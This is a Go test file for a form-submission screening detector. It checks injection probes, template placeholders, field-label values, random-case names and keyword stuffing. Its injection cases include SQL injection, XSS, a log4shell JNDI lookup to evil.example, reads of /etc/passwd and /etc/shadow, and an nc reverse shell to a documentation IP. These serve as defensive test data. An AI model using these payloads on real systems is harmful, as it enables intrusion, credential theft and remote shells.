package screen

import (
	"testing"
)

func TestInjectionProbe(t *testing.T) {
	not := []string{CodeInjectionProbe}
	runCases(t, []detCase{
		{name: "or 1=1 in a name", sub: setNames("admin' OR 1=1 --", "García", "Northwind"), want: CodeInjectionProbe, points: 60},
		{name: "quoted or", sub: setCompany(`x" or "a"="a`), want: CodeInjectionProbe},
		{name: "union select", sub: setMessage("1 UNION ALL SELECT username, password FROM users"), want: CodeInjectionProbe},
		{name: "drop table", sub: setCompany("Robert'); DROP TABLE students;--"), want: CodeInjectionProbe},
		{name: "sleep", sub: setMessage("1' AND SLEEP(5)#"), want: CodeInjectionProbe},
		{name: "script tag", sub: setNames("<script>alert(1)</script>", "García", ""), want: CodeInjectionProbe},
		{name: "event handler", sub: setMessage(`<img src=x onerror=alert(document.domain)>`), want: CodeInjectionProbe},
		{name: "log4shell", sub: setNames("${jndi:ldap://evil.example/a}", "García", ""), want: CodeInjectionProbe},
		{name: "template injection", sub: setCompany("{{7*7}}"), want: CodeInjectionProbe},
		{name: "path traversal", sub: setMessage("../../../../etc/passwd"), want: CodeInjectionProbe},
		{name: "shell", sub: setCompany("; cat /etc/shadow"), want: CodeInjectionProbe},
		{name: "subshell", sub: setMessage("$(whoami)"), want: CodeInjectionProbe},
		{name: "shell with a tab", sub: setCompany("x |nc\t-e /bin/sh 203.0.113.9 4444"), want: CodeInjectionProbe},
		// Questions about security, and ordinary punctuation, are not probes.
		{name: "security question", sub: setMessage("Do you protect against SQL injection and XSS? Our auditors will ask about OWASP top 10."), not: not},
		{name: "quote and", sub: setMessage("We liked the 'premium' and others like it; which plan fits 40 users?"), not: not},
		{name: "select word", sub: setMessage("Please select a few dates from your calendar for a demo."), not: not},
		{name: "javascript as a word", sub: setMessage("We use JavaScript: React and Vue. Do you have an SDK?"), not: not},
		{name: "o'brien", sub: setNames("Siobhán", "O'Brien", "O'Reilly & Sons"), not: not},
		{name: "ellipsis path", sub: setMessage("We tried ... and then ... nothing worked."), not: not},
		{name: "german", sub: setMessage("Wir haben 3 Standorte; bitte ein Angebot für 50 Nutzer."), not: not},
	})
}

func TestTemplatePlaceholder(t *testing.T) {
	not := []string{CodeTemplatePlaceholder}
	runCases(t, []detCase{
		{name: "double braces", sub: setMessage("Hi {{first_name}}, I noticed {{company}} is growing."), want: CodeTemplatePlaceholder, points: 60},
		{name: "square brackets", sub: setMessage("Dear [NAME], we help companies like [Company Name] grow."), want: CodeTemplatePlaceholder},
		{name: "percent", sub: setNames("%FIRSTNAME%", "%LASTNAME%", ""), want: CodeTemplatePlaceholder},
		{name: "single braces", sub: setMessage("Hello {name}, quick question about {company}."), want: CodeTemplatePlaceholder},
		{name: "mailchimp", sub: setMessage("Hi *|FNAME|*, great to connect."), want: CodeTemplatePlaceholder},
		{name: "german placeholder", sub: setMessage("Hallo [Vorname], kurze Frage zu [Firma]."), want: CodeTemplatePlaceholder},
		{name: "spanish placeholder", sub: setMessage("Hola {nombre}, ¿tienes un momento?"), want: CodeTemplatePlaceholder},
		{name: "russian placeholder", sub: setMessage("Здравствуйте, {имя}! Предлагаем сотрудничество."), want: CodeTemplatePlaceholder},
		{name: "spintax", sub: setMessage("{Hi|Hello|Hey} there, {great|awesome} site!"), want: CodeTemplatePlaceholder},
		{name: "dollar variable", sub: setMessage("Hi $first_name, I saw your site."), want: CodeTemplatePlaceholder},
		// Brackets and braces in ordinary writing.
		{name: "bracketed aside", sub: setMessage("We have 3 offices [Berlin, Madrid, Paris] and need SSO (SAML)."), not: not},
		{name: "urgent tag", sub: setMessage("[URGENT] Need a quote for 200 seats by Friday."), not: not},
		{name: "percentages", sub: setMessage("We grew 40% YoY and 25% QoQ; what discount for 100% prepayment?"), not: not},
		{name: "price in dollars", sub: setMessage("Is the $49 plan per user?"), not: not},
	})
}

func TestFieldLabelsAndRandomCase(t *testing.T) {
	runCases(t, []detCase{
		{name: "english labels", sub: setNames("First Name", "Last Name", "Company"), want: CodeFieldLabelValue, points: 60},
		{name: "one label", sub: setNames("María", "García", "Company Name"), want: CodeFieldLabelValue, points: 30},
		{name: "german labels", sub: setNames("Vorname", "Nachname", "Firma"), want: CodeFieldLabelValue},
		{name: "french labels", sub: setNames("Prénom", "Nom", "Société"), want: CodeFieldLabelValue},
		{name: "spanish labels", sub: setNames("Nombre", "Apellido", "Empresa"), want: CodeFieldLabelValue},
		{name: "russian labels", sub: setNames("Имя", "Фамилия", "Компания"), want: CodeFieldLabelValue},
		{name: "chinese labels", sub: setNames("姓名", "", "公司名称"), want: CodeFieldLabelValue},
		{name: "real names", sub: setNames("Nomvula", "Namibia-Smith", "Name.com"), not: []string{CodeFieldLabelValue}},
		{name: "random case name", sub: setNames("aBcDeFgH", "García", "Northwind"), want: CodeRandomCase, points: 30},
		{name: "random case both", sub: setNames("xKqPzLmT", "bXkPqRtZ", "Northwind"), want: CodeRandomCase, points: 60},
		{name: "camel-case names are fine", sub: setNames("DeShawn", "McDonald-VanDerBilt", "LinkedIn YouTube HubSpot"), not: []string{CodeRandomCase}},
		{name: "cyrillic random case", sub: setNames("пРиВеТкА", "Иванова", "Ромашка"), want: CodeRandomCase},
	})
}

func TestKeywordStuffing(t *testing.T) {
	not := []string{CodeKeywordStuffing}
	runCases(t, []detCase{
		{name: "keyword list", sub: setMessage("cheap flights, best hotels, car rental, travel insurance, holiday deals, last minute, cruise offers, city breaks, ski trips"), want: CodeKeywordStuffing, points: 30},
		{name: "russian keyword list", sub: setMessage("купить диплом, диплом вуза, аттестат, купить аттестат, диплом техникума, свидетельство, справка, купить справку"), want: CodeKeywordStuffing},
		{name: "chinese keyword list", sub: setMessage("网站优化，关键词排名，外链，百度收录，快速排名，网站建设，推广，引流"), want: CodeKeywordStuffing},
		{name: "tools named in prose", sub: setMessage("We use Salesforce, HubSpot, Slack and Jira today. Could your product replace HubSpot, and does it integrate with Slack?"), not: not},
		{name: "long sentences with commas", sub: setMessage("Hi, we are, as of this quarter, looking at tools, and, frankly, yours looks good, but, before we commit, we need, above all, SSO. Thanks, Ana."), not: not},
	})
}
